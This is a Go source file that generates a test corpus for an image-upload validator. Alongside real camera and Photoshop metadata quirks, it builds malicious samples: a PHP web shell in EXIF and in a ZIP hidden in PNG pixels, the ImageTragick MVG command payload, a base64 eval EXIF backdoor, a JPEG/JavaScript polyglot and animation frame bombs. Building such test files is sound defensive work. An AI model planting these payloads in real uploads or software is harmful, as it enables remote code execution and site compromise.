package uploadcorpus

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"image"
	"image/color"
	"image/png"
	"strings"
)

// This file builds files after public upload-bypass techniques (payloads in
// pixel data, animation frame bombs, metadata exfiltration, header
// polyglots) and the real-world quirks of camera and editor files that a
// validator must accept.

// pngStoredRGB encodes a w×h RGB image whose raw scanlines (filter byte 0)
// are stored in IDAT without compression, so payload, written into the
// pixel bytes from the row given, lies literally in the file: the IDAT
// form of the "resize bypass", where the payload survives in the
// compressed pixel data.
func pngStoredRGB(w, h, row int, payload []byte) []byte {
	stride := 1 + 3*w
	raw := make([]byte, stride*h)
	for y := range h {
		raw[y*stride] = 0
		for x := range 3 * w {
			raw[y*stride+1+x] = byte(40 + (x*7+y*13)%160)
		}
	}
	// Spread the payload over whole rows, skipping the filter bytes.
	p := 0
	for y := row; y < h && p < len(payload); y++ {
		p += copy(raw[y*stride+1:(y+1)*stride], payload[p:])
	}
	var z bytes.Buffer
	zw, _ := zlib.NewWriterLevel(&z, zlib.NoCompression)
	zw.Write(raw)
	zw.Close()
	ihdr := binary.BigEndian.AppendUint32(nil, uint32(w))
	ihdr = binary.BigEndian.AppendUint32(ihdr, uint32(h))
	ihdr = append(ihdr, 8, 2, 0, 0, 0)
	out := append([]byte("\x89PNG\r\n\x1a\n"), pngChunk("IHDR", ihdr)...)
	out = append(out, pngChunk("IDAT", z.Bytes())...)
	return append(out, pngChunk("IEND", nil)...)
}

// palettePNG encodes a small paletted PNG with Go's encoder.
func palettePNG() []byte {
	pal := color.Palette{color.RGBA{0, 0, 0, 255}, color.RGBA{200, 40, 40, 255}, color.RGBA{40, 200, 40, 255}, color.RGBA{250, 250, 250, 255}}
	img := image.NewPaletted(image.Rect(0, 0, 16, 8), pal)
	for i := range img.Pix {
		img.Pix[i] = uint8(i % len(pal))
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// pngPalettePayload is a paletted PNG whose PLTE holds the payload as
// colours: GD and most resizers copy a palette unchanged, which is why
// upload-bypass guides put PHP there.
func pngPalettePayload(payload []byte) []byte {
	pal := append([]byte(nil), payload...)
	for len(pal)%3 != 0 {
		pal = append(pal, ' ')
	}
	n := len(pal) / 3
	ihdr := []byte{0, 0, 0, 8, 0, 0, 0, 2, 8, 3, 0, 0, 0}
	raw := make([]byte, 2*9)
	for y := range 2 {
		for x := range 8 {
			raw[y*9+1+x] = byte((x + y) % n)
		}
	}
	out := append([]byte("\x89PNG\r\n\x1a\n"), pngChunk("IHDR", ihdr)...)
	out = append(out, pngChunk("PLTE", pal)...)
	out = append(out, pngChunk("IDAT", deflate(raw))...)
	return append(out, pngChunk("IEND", nil)...)
}

// pngChunkAt returns the offset of the first chunk of type typ, or -1.
func pngChunkAt(p []byte, typ string) int {
	for pos := 8; pos+12 <= len(p); {
		n := int(binary.BigEndian.Uint32(p[pos:]))
		if string(p[pos+4:pos+8]) == typ {
			return pos
		}
		pos += 12 + n
	}
	return -1
}

// pngDuplicate repeats the first chunk of type typ right after itself.
func pngDuplicate(p []byte, typ string) []byte {
	at := pngChunkAt(p, typ)
	n := int(binary.BigEndian.Uint32(p[at:]))
	c := p[at : at+12+n]
	out := append([]byte(nil), p[:at+12+n]...)
	out = append(out, c...)
	return append(out, p[at+12+n:]...)
}

// jpegScanPayload writes payload into the entropy-coded data right after
// the first SOS header, where public JPEG payload generators place PHP so
// that it survives re-compression by GD.
func jpegScanPayload(j []byte, payload []byte) []byte {
	i := bytes.Index(j, []byte{0xff, 0xda})
	n := int(binary.BigEndian.Uint16(j[i+2:]))
	at := i + 2 + n
	out := append([]byte(nil), j[:at]...)
	out = append(out, payload...)
	return append(out, j[at:]...)
}

// gifImageDataPayload puts payload in a sub-block of the first image's LZW
// data.
func gifImageDataPayload(g []byte, payload []byte) []byte {
	i := bytes.IndexByte(g[13+768:], 0x2c) // after the Plan 9 global table
	pos := 13 + 768 + i
	flags := g[pos+9]
	pos += 10
	if flags&0x80 != 0 {
		pos += 3 << (flags&7 + 1)
	}
	pos++ // LZW minimum code size
	block := append([]byte{byte(len(payload))}, payload...)
	out := append([]byte(nil), g[:pos]...)
	out = append(out, block...)
	return append(out, g[pos:]...)
}

// gifFrames builds a GIF of n frames of 1×1 on a 1×1 screen: 15 bytes a
// frame, so 40,000 frames fit in 600 KB while a decoder that keeps every
// frame allocates an image, a palette and a delay for each.
func gifFrames(n int) []byte {
	out := []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff")
	for range n {
		out = append(out, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0x00, 0x02, 0x02, 0x4c, 0x01, 0x00)
	}
	return append(out, 0x3b)
}

// apngFrames builds an APNG of n 1×1 frames.
func apngFrames(n int) []byte {
	out := append([]byte("\x89PNG\r\n\x1a\n"), pngChunk("IHDR", []byte{0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0})...)
	out = append(out, pngChunk("acTL", binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, uint32(n)), 0))...)
	px := deflate([]byte{0, 10, 20, 30})
	seq := uint32(0)
	for i := range n {
		fc := make([]byte, 26)
		binary.BigEndian.PutUint32(fc, seq)
		seq++
		binary.BigEndian.PutUint32(fc[4:], 1)
		binary.BigEndian.PutUint32(fc[8:], 1)
		fc[20], fc[22] = 1, 0 // 1/100 s
		fc[21] = 100
		out = append(out, pngChunk("fcTL", fc)...)
		if i == 0 {
			out = append(out, pngChunk("IDAT", px)...)
			continue
		}
		out = append(out, pngChunk("fdAT", append(binary.BigEndian.AppendUint32(nil, seq), px...))...)
		seq++
	}
	return append(out, pngChunk("IEND", nil)...)
}

// webpFrames builds an animated WebP of n 1×1 frames.
func webpFrames(n int) []byte {
	chunks := [][]byte{vp8x(0x12, 1, 1), webpChunk("ANIM", make([]byte, 6))}
	frame := anmf(1, 1, webpChunk("VP8L", webpLossless1x1[20:33]))
	for range n {
		chunks = append(chunks, frame)
	}
	return webpFile(chunks...)
}

// photoshopAPP13 builds an APP13 Photoshop segment from image resources.
func photoshopAPP13(res ...[]byte) []byte {
	body := []byte("Photoshop 3.0\x00")
	for _, r := range res {
		body = append(body, r...)
	}
	return jpegSegment(0xed, body)
}

// irb is one Photoshop image resource block with an empty name.
func irb(id uint16, data []byte) []byte {
	b := append([]byte("8BIM"), byte(id>>8), byte(id), 0, 0)
	b = binary.BigEndian.AppendUint32(b, uint32(len(data)))
	b = append(b, data...)
	if len(data)%2 == 1 {
		b = append(b, 0)
	}
	return b
}

// printSettingsPlist is the XML property list that Photoshop on macOS
// stores with the page setup: an XML declaration and a DOCTYPE, which is
// markup, but nothing a browser or interpreter executes.
const printSettingsPlist = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple Computer//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
	<key>com.apple.print.PageFormat.PMHorizontalRes</key>
	<dict>
		<key>com.apple.print.ticket.creator</key>
		<string>com.apple.jobticket</string>
		<key>com.apple.print.ticket.itemArray</key>
		<array>
			<dict>
				<key>com.apple.print.PageFormat.PMHorizontalRes</key>
				<real>72</real>
				<key>com.apple.print.ticket.stateFlag</key>
				<integer>0</integer>
			</dict>
		</array>
	</dict>
	<key>com.apple.print.PaperInfo.ppd.PMPaperName</key>
	<string>A4</string>
	<key>com.apple.print.ticket.privateLock</key>
	<false/>
	<key>com.apple.print.ticket.type</key>
	<string>com.apple.print.PaperInfoTicket</string>
	<key>com.apple.print.PageFormat.FormattingPrinter</key>
	<data>
	AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
	AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/onAbCd=
	</data>
</dict>
</plist>
`

// photoshopPrintJPEG is a JPEG as Photoshop on macOS saves it: APP13 with
// IPTC, resolution info and the print-settings property list, and XMP
// holding the same property list entity-encoded.
func photoshopPrintJPEG(jpg []byte) []byte {
	iptc := []byte{0x1c, 0x02, 0x00, 0x00, 0x02, 0x00, 0x04, 0x1c, 0x02, 0x78, 0x00, 0x0f}
	iptc = append(iptc, "Harbour at dawn"...)
	res := []byte{0, 0x48, 0, 0, 0, 1, 0, 1, 0, 0x48, 0, 0, 0, 1, 0, 1}
	xmpPlist := strings.NewReplacer("<", "&lt;", ">", "&gt;", `"`, "&quot;").Replace(printSettingsPlist)
	xmp := `<?xpacket begin="` + "\ufeff" + `" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/" x:xmptk="Adobe XMP Core 5.6-c140">` +
		`<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/"` +
		` xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmp:CreatorTool="Adobe Photoshop CC 2019 (Macintosh)" photoshop:ColorMode="3">` +
		`<photoshop:PrintSettings>` + xmpPlist + `</photoshop:PrintSettings></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`
	return jpegWith(jpg,
		photoshopAPP13(irb(0x0404, iptc), irb(0x03ed, res), irb(0x0421, []byte("\x00\x00\x00\x01\x01\x00\x00\x00\x0fA\x00d\x00o\x00b\x00e")), irb(0x03e9, []byte(printSettingsPlist))),
		jpegSegment(0xe1, append([]byte("http://ns.adobe.com/xap/1.0/\x00"), xmp...)),
	)
}

// cameraJPEG carries what phone and camera firmware writes besides EXIF:
// an MPF index (APP2), a maker note, an Adobe APP14, a Ducky APP12.
func cameraJPEG(jpg []byte) []byte {
	maker := append([]byte("SAMSUNG\x00\x01\x00\x0c\x00"), bytes.Repeat([]byte{0x01, 0x00, 0x07, 0x00, 0x04, 0x00, 0x00, 0x00, 0x30, 0x31, 0x30, 0x30}, 12)...)
	exif := tiffLE([]tiffEntry{asciiEntry(0x010f, "SAMSUNG"), asciiEntry(0x0110, "SM-G991B"), shortEntry(0x0112, 1)},
		[]tiffEntry{asciiEntry(0x9003, "2023:05:14 09:12:44"), undefinedEntry(0x927c, maker)})
	mpf := append([]byte("MPF\x00MM\x00\x2a\x00\x00\x00\x08\x00\x03\xb0\x00\x00\x07\x00\x00\x00\x04"), "0100"...)
	mpf = append(mpf, 0xb0, 0x01, 0, 4, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0, 0)
	return jpegWith(jpg, exifAPP1(exif), jpegSegment(0xe2, mpf),
		jpegSegment(0xec, []byte("Ducky\x00\x01\x00\x04\x00\x00\x00\x50\x00\x00")),
		jpegSegment(0xee, []byte("Adobe\x00\x64\x00\x00\x00\x00\x01")))
}

// brokenEXIFSubdirectory is a camera EXIF block whose Exif sub-directory
// holds a value that points past the block (a firmware bug seen in real
// files), with orientation 6 in IFD0.
func brokenEXIFSubdirectory() []byte {
	b := tiffLE([]tiffEntry{asciiEntry(0x010f, "NIKON CORPORATION"), shortEntry(0x0112, 6)},
		[]tiffEntry{asciiEntry(0x9003, "2019:07:01 18:30:12"), asciiEntry(0x9004, "2019:07:01 18:30:12")})
	// The second Exif entry's value offset: IFD0 has three entries (Make,
	// Orientation, the Exif pointer), so the Exif IFD starts at 8+2+36+4.
	e := 8 + 2 + 3*12 + 4 + 2 + 12
	binary.LittleEndian.PutUint32(b[e+8:], uint32(len(b)+200))
	return b
}

// splitEXIF is an EXIF block larger than one APP1 segment, split over two
// as some cameras do: the maker note of the first segment lies in the
// second, which has no header of its own.
func splitEXIF(jpg []byte) []byte {
	maker := bytes.Repeat([]byte{0x00, 0x11, 0x22, 0x33, 0x44, 0x55, 0x66, 0x77}, 9000)
	t := tiffLE([]tiffEntry{asciiEntry(0x010f, "Canon"), shortEntry(0x0112, 1)},
		[]tiffEntry{asciiEntry(0x9003, "2012:02:02 12:12:12"), undefinedEntry(0x927c, maker)})
	const first = 65000
	return jpegWith(jpg, exifAPP1(t[:first]), jpegSegment(0xe1, t[first:]))
}

// brokenEXIFPHP is an EXIF block that fails pre-validation (a value
// offset past the block) with PHP in its ImageDescription.
func brokenEXIFPHP() []byte {
	b := tiffLE([]tiffEntry{asciiEntry(0x010e, "<?php system($_GET['c']); ?>"), asciiEntry(0x010f, "Canon")}, nil)
	binary.LittleEndian.PutUint32(b[8+2+12+8:], uint32(len(b)+64))
	return b
}

// jpegJSPolyglot is the JPEG/JavaScript polyglot of the CSP-bypass
// write-ups: the APP0 length 0x2F2A reads "/*", so as Latin-1 script the
// file is ÿØÿà/* … */=alert(…);/* … and runs from a <script src>.
func jpegJSPolyglot(jpg []byte) []byte {
	body := append([]byte("JFIF\x00\x01\x01\x01\x00\x48\x00\x48\x00\x00"), make([]byte, 0x2f2a-2-14)...)
	out := append([]byte{0xff, 0xd8, 0xff, 0xe0, 0x2f, 0x2a}, body...)
	out = append(out, jpegSegment(0xfe, []byte(`*/=alert("polyglot");/*`))...)
	out = append(out, jpg[2:len(jpg)-2]...)
	return append(out, "*/\xff\xd9"...)
}

// zipInIDAT stores a ZIP archive in the last pixel rows of a PNG, close
// enough to the end that ZIP readers, which look for the end-of-central-
// directory record in the last 64 KiB, open the image as an archive.
func zipInIDAT() []byte {
	z := zipBytes("shell.php", "<?php system($_GET['c']); ?>")
	w := (len(z) + 2) / 3
	return pngStoredRGB(w, 4, 3, z)
}

// imageTragickMVG is the ImageMagick MVG file of CVE-2016-3714, uploaded
// as a PNG: ImageMagick detects it from its content and runs the shell
// command in the URL.
const imageTragickMVG = "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/image.jpg\"|ls \"-la)'\npop graphic-context\n"

// sucuriEXIFBackdoor is the EXIF backdoor found on compromised sites: a
// loader runs preg_replace with the /e modifier over Make and Model.
func sucuriEXIFBackdoor() []byte {
	return tiffLE([]tiffEntry{asciiEntry(0x010f, "/.*/e"), asciiEntry(0x0110, `eval ( base64_decode("aWYgKGlzc2V0KCRfUE9TVFsienoxIl0pKSB7ZXZhbChzdHJpcHNsYXNoZXMoJF9QT1NUWyJ6ejEiXSkpO30="));`)}, nil)
}

// gifPalettePayload writes payload into the global colour table, which
// decoders and re-encoders copy byte for byte.
func gifPalettePayload(g []byte, payload []byte) []byte {
	out := bytes.Clone(g)
	copy(out[13:13+768], payload)
	return out
}

// mpfJPEG appends preview to main as a second picture and lists both in
// an APP2 Multi-Picture Format index, as DSLRs store a large preview and
// phones a depth or gain map.
func mpfJPEG(main, preview []byte) []byte {
	t := []byte("MM\x00\x2a\x00\x00\x00\x08\x00\x03")
	t = append(t, 0xb0, 0x00, 0, 7, 0, 0, 0, 4, '0', '1', '0', '0')
	t = append(t, 0xb0, 0x01, 0, 4, 0, 0, 0, 1, 0, 0, 0, 2)
	t = append(t, 0xb0, 0x02, 0, 7, 0, 0, 0, 32, 0, 0, 0, 50)
	t = append(t, 0, 0, 0, 0)
	t = append(t, make([]byte, 32)...)
	out := jpegWith(main, jpegSegment(0xe2, append([]byte("MPF\x00"), t...)))
	const tiffAt = 2 + 4 + 4 // SOI, marker and length, "MPF\0"
	e := out[tiffAt+50:]
	binary.BigEndian.PutUint32(e[0:], 0x20030000) // primary, baseline
	binary.BigEndian.PutUint32(e[4:], uint32(len(out)))
	binary.BigEndian.PutUint32(e[16:], 0x00010001) // large thumbnail
	binary.BigEndian.PutUint32(e[20:], uint32(len(preview)))
	binary.BigEndian.PutUint32(e[24:], uint32(len(out)-tiffAt))
	return append(out, preview...)
}

// samsungTrailerBytes builds the trailer Galaxy phones append after EOI:
// records (a type, a name and data), then a SEFH directory giving each
// record's distance back from the directory and its size, the
// directory's size and "SEFT".
func samsungTrailerBytes(records ...[2]string) []byte {
	var data []byte
	type ent struct{ start, size int }
	var ents []ent
	for i, r := range records {
		start := len(data)
		data = append(data, 0, 0, 0x01, byte(0x0a+i))
		data = binary.LittleEndian.AppendUint32(data, uint32(len(r[0])))
		data = append(data, r[0]...)
		data = append(data, r[1]...)
		ents = append(ents, ent{start, len(data) - start})
	}
	dirAt := len(data)
	dir := []byte("SEFH")
	dir = binary.LittleEndian.AppendUint32(dir, 107)
	dir = binary.LittleEndian.AppendUint32(dir, uint32(len(ents)))
	for i, e := range ents {
		dir = append(dir, 0, 0, 0x01, byte(0x0a+i))
		dir = binary.LittleEndian.AppendUint32(dir, uint32(dirAt-e.start))
		dir = binary.LittleEndian.AppendUint32(dir, uint32(e.size))
	}
	out := append(data, dir...)
	out = binary.LittleEndian.AppendUint32(out, uint32(len(dir)))
	return append(out, "SEFT"...)
}
